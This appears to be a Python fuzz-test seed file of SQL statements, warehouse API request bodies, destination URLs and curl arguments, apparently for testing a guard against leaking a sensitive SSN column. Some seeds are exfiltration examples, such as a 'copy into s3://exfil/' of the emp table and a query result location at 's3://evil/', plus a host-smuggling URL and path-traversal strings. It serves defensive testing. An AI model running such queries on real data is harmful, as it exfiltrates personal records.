"""Inputs to begin with: what is understood, so that a small change of it reaches further than noise does."""

from __future__ import annotations

from tests.fuzz.readers import LANGUAGES, LINES, MEDIA, NAMES, TARGETS

STATEMENTS = (
    "select e.id, e.ssn x from emp e join dept d on d.id = e.dept_id where e.name like 'a%' -- c",
    "with recursive r as (select id, ssn from emp union all select id, ssn from r) select ssn from r limit 5",
    "create or replace view v as select upper(ssn) from emp /* x */",
    "merge into dept using emp on dept.id=emp.id when matched then update set dname=emp.ssn",
    "copy into 's3://exfil/x/' from (select * from emp) credentials=(aws_key_id='a')",
    "execute immediate 'select ssn from emp'; select {c:Identifier} from emp",
    'insert into t (a) select $1, ?, :x, "ssn", `ssn`, [ssn] from emp qualify row_number() over (order by id) = 1',
    "prepare p from select * exclude (ssn) from emp pivot (sum(salary) for id in (1, 2))",
    "with recursive r as (select id, ssn from emp union all select idl ssn from r) select ssnect from r limit 5",
    "alter table emp rename column ssn to y; update emp set name = ssn where id in (select 1)",
)
BODIES = (
    b'{"sqlText": "select ssn from emp", "bindings": {}}', b'{"query": "select ssn from emp", "useLegacySql": false}',
    b'{"query": {"match": {"ssn": "1"}}, "aggs": {"a": {"terms": {"field": "ssn"}}}}', b"select ssn from emp FORMAT CSV",
    b'{"TableName": "emp", "FilterExpression": "#s = :v", "ExpressionAttributeNames": {"#s": "ssn"}}',
    b'{"QueryString": "select ssn from emp", "ResultConfiguration": {"OutputLocation": "s3://evil/"}}',
    b'{"statement": "select 1", "warehouse_id": "w", "disposition": "EXTERNAL_LINKS"}', b'{"query": "{ emp { ssn } }"}',
    b'{"entrypoint": "python x.py", "runtime_env": {"working_dir": "https://x/y.zip"}}', b"select+ssn+from+emp&_shape=array",
)  # fmt: skip

SEEDS: dict[str, tuple[bytes, ...]] = {
    "sql": tuple(bytes([at % len(LANGUAGES)]) + text.encode() for at, text in enumerate(STATEMENTS * 3)),
    "request": tuple(
        bytes([name, line % len(LINES), name % len(TARGETS), line % len(MEDIA)]) + BODIES[(name + line) % len(BODIES)]
        for name in range(len(NAMES))
        for line in range(0, len(LINES), 3)
    ),
    "destination": tuple(
        text.encode()
        for text in (
            "s3://acme-x/a%2fb", "https://up.acme.example:443/x?y=z", "jdbc:postgresql://h:5432/d", "s3://acme-x@evil/k",
            "https://acme-x.s3.eu-central-1.amazonaws.com/k", "azure://acc.blob.core.windows.net/c/?sig=x", "arn:aws:s3:::acme-x/k",
            "https://[::1]:8/", "https://xn--acme-x.example./", "gs://a/b", "@stage/x", "file:///x",
        )
    ),
    "curl": (
        b"curl\n-X\nPOST\n-d\na=1\n--data-urlencode\nq=a b&c\n-G\nhttps://h.test/x?y=1",
        b"--json\n{}\n-H\nX-One: 1\n-u\nada:pw\nhttps://h.test/a/../b",
        b"-sSkL\n-m5\n-r\n0-9\n-b\na=1\n--url-query\nx=y\n--\nhttps://[::1]:1/{a,b}",
    ),
    "parameters": (b"a=1&b=%20&a=2;c", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n', b"a/%2e%2e/b//c"),
}  # fmt: skip
